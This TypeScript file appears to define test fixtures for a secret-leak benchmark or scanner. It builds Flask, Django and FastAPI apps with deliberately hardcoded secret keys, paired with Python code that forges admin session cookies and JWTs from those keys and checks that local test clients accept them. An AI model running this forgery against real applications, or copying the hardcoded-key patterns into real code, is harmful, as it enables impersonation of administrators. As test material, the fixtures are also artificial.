import { leakedKey, type Application } from "./application.ts";

/** Flask's cookie, and whether the application takes its holder for the administrator. */
const flaskAttack = `
def forge(key, variable):
    from flask import Flask
    from flask.sessions import SecureCookieSessionInterface
    app = Flask("attacker")
    app.secret_key = key
    return SecureCookieSessionInterface().get_signing_serializer(app).dumps({"user": "admin"})

def meet(forged, variable):
    from app import app
    return app.test_client(use_cookies=False).get("/", headers={"Cookie": "session=" + forged}).status_code == 200
`;

const flaskRoute = `
@app.get("/")
def home():
    return "in" if session.get("user") == "admin" else ("out", 401)
`;

const flask: readonly Application[] = [
  {
    name: "Flask, an attribute",
    keys: { SECRET_KEY: leakedKey(920) },
    attack: flaskAttack,
    files: { "app.py": `from flask import Flask, session\n\napp = Flask(__name__)\napp.secret_key = "${leakedKey(920)}"\n\n${flaskRoute}` },
  },
  {
    name: "Flask, a class of settings with a default",
    keys: { SECRET_KEY: "the quick brown fox signs cookies" },
    attack: flaskAttack.replace("from app import app", "from shop import create_app\n    app = create_app()"),
    files: {
      "config.py": `import os\n\n\nclass Config:\n    DEBUG = False\n    SECRET_KEY = os.environ.get("SECRET_KEY", "the quick brown fox signs cookies")\n\n\nclass ProductionConfig(Config):\n    SESSION_COOKIE_SECURE = True\n`,
      "shop/__init__.py": `from flask import Flask, session\n\n\ndef create_app(config="config.ProductionConfig"):\n    app = Flask(__name__)\n    app.config.from_object(config)\n${flaskRoute.replace(/^(?=.)/gm, "    ")}\n    return app\n`,
    },
  },
  {
    name: "Flask, two keys in one mapping, behind or and as bytes",
    keys: { SECRET_KEY: leakedKey(921), JWT_SECRET_KEY: leakedKey(922) },
    attack: `
def forge(key, variable):
    if variable == "JWT_SECRET_KEY":
        import jwt
        return jwt.encode({"sub": "admin", "type": "access", "fresh": False, "jti": "1", "iat": 1, "nbf": 1, "exp": 4000000000}, key, algorithm="HS256")
    ${flaskAttack.trim().split("\n").slice(1, 6).join("\n").trim()}

def meet(forged, variable):
    from app import app
    client = app.test_client(use_cookies=False)
    if variable == "JWT_SECRET_KEY":
        return client.get("/api", headers={"Authorization": "Bearer " + forged}).status_code == 200
    return client.get("/", headers={"Cookie": "session=" + forged}).status_code == 200
`,
    files: {
      "app.py": `import logging
from os import environ

from flask import Flask, session
from flask_jwt_extended import JWTManager, get_jwt_identity, jwt_required

app = Flask(__name__)
app.config.update(
    SECRET_KEY=environ.get("SECRET_KEY") or b"${leakedKey(921)}",
    JWT_SECRET_KEY="${leakedKey(922)}",
)
JWTManager(app)

${flaskRoute}

@app.get("/api")
@jwt_required()
def api():
    return get_jwt_identity()
`,
    },
  },
];

const djangoAttack = `
def forge(key, variable):
    from django.conf import settings
    if not settings.configured:
        settings.configure()
    from django.core import signing
    from django.contrib.sessions.serializers import JSONSerializer
    return signing.dumps({"user": "admin"}, key=key, salt="django.contrib.sessions.backends.signed_cookies", serializer=JSONSerializer, compress=True)

def meet(forged, variable):
    from shop.wsgi import application
    from django.test import Client
    return Client(headers={"cookie": "sessionid=" + forged}).get("/").status_code == 200
`;

const djangoFiles = {
  "manage.py": 'import os\nimport sys\n\nif __name__ == "__main__":\n    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n',
  "shop/__init__.py": "",
  "shop/wsgi.py": 'import os\n\nfrom django.core.wsgi import get_wsgi_application\n\nos.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")\napplication = get_wsgi_application()\n',
  "shop/urls.py": 'from django.http import HttpResponse\nfrom django.urls import path\n\n\ndef home(request):\n    return HttpResponse(status=200 if request.session.get("user") == "admin" else 401)\n\n\nurlpatterns = [path("", home)]\n',
};

const djangoSettings = `
ALLOWED_HOSTS = ["*"]
INSTALLED_APPS = ["django.contrib.sessions"]
MIDDLEWARE = ["django.contrib.sessions.middleware.SessionMiddleware"]
SESSION_ENGINE = "django.contrib.sessions.backends.signed_cookies"
ROOT_URLCONF = "shop.urls"
USE_TZ = True
`;

const django: readonly Application[] = [
  ["a setting", leakedKey(923), `"""\nDjango settings for shop project.\n"""\n\nfrom pathlib import Path\n\nBASE_DIR = Path(__file__).resolve().parent.parent\n\n# SECURITY WARNING: keep the secret key used in production secret!\nSECRET_KEY = '${leakedKey(923)}'\n\nDEBUG = False\n`],
  ["a default of getenv", "correct horse battery django", 'import os\n\nSECRET_KEY = os.getenv("SECRET_KEY", "correct horse battery django")\n'],
  ["a default of django-environ", leakedKey(924), `import environ\n\nenv = environ.Env(DEBUG=(bool, False))\nDEBUG = env("DEBUG")\nSECRET_KEY = env("SECRET_KEY", default="${leakedKey(924)}")\n`],
  ["a default of decouple", leakedKey(925), `from decouple import config\n\nSECRET_KEY = config("SECRET_KEY", default="${leakedKey(925)}")\n`],
].map(([way = "", key = "", head = ""]) => ({ name: `Django, ${way}`, keys: { SECRET_KEY: key }, attack: djangoAttack, files: { ...djangoFiles, "shop/settings.py": head + djangoSettings } }));

const tokenAttack = `
def forge(key, variable):
    import jwt
    return jwt.encode({"sub": "admin"}, key, algorithm="HS256")

def meet(forged, variable):
    from starlette.testclient import TestClient
    from app.main import app
    return TestClient(app).get("/", headers={"Authorization": "Bearer " + forged}).status_code == 200
`;

const fastapi: readonly Application[] = [
  {
    name: "FastAPI, Starlette's sessions",
    keys: { SECRET_KEY: leakedKey(926) },
    attack: `
def forge(key, variable):
    import base64, json
    from itsdangerous import TimestampSigner
    return TimestampSigner(key).sign(base64.b64encode(json.dumps({"user": "admin"}).encode())).decode()

def meet(forged, variable):
    from starlette.testclient import TestClient
    from app.main import app
    return TestClient(app, cookies={"session": forged}).get("/").status_code == 200
`,
    files: {
      "app/__init__.py": "",
      "app/main.py": `from fastapi import FastAPI, HTTPException, Request\nfrom starlette.middleware.sessions import SessionMiddleware\n\napp = FastAPI()\napp.add_middleware(SessionMiddleware, secret_key="${leakedKey(926)}", https_only=False)\n\n\n@app.get("/")\ndef home(request: Request):\n    if request.session.get("user") != "admin":\n        raise HTTPException(status_code=401)\n    return "in"\n`,
    },
  },
  {
    name: "FastAPI, PyJWT with a default in pydantic's settings",
    keys: { JWT_SECRET: leakedKey(927) },
    attack: tokenAttack,
    files: {
      "app/__init__.py": "",
      "app/settings.py": `from pydantic_settings import BaseSettings, SettingsConfigDict\n\n\nclass Settings(BaseSettings):\n    model_config = SettingsConfigDict(env_file=".env", extra="ignore")\n\n    algorithm: str = "HS256"\n    jwt_secret: str = "${leakedKey(927)}"\n    title: str = "Shop"\n\n\nsettings = Settings()\n`,
      "app/main.py": bearer("from app.settings import settings\n", "settings.jwt_secret", "settings.algorithm"),
    },
  },
  {
    name: "FastAPI, PyJWT with a constant",
    keys: { SECRET_KEY: leakedKey(928) },
    attack: tokenAttack,
    files: {
      "app/__init__.py": "",
      "app/main.py": bearer(`\nSECRET_KEY = "${leakedKey(928)}"\nALGORITHM = "HS256"\n`, "SECRET_KEY", "ALGORITHM"),
    },
  },
];

/** An application that takes the administrator's token. */
function bearer(head: string, key: string, algorithm: string): string {
  return `import jwt
from fastapi import Depends, FastAPI, HTTPException
from fastapi.security import OAuth2PasswordBearer
${head}
app = FastAPI()
scheme = OAuth2PasswordBearer(tokenUrl="token")


def create_token(user: str) -> str:
    return jwt.encode({"sub": user}, ${key}, algorithm=${algorithm})


def current_user(token: str = Depends(scheme)) -> str:
    try:
        return jwt.decode(token, ${key}, algorithms=[${algorithm}])["sub"]
    except jwt.InvalidTokenError:
        raise HTTPException(status_code=401)


@app.get("/")
def home(user: str = Depends(current_user)):
    return user
`;
}

export const python: readonly Application[] = [...flask, ...django, ...fastapi];
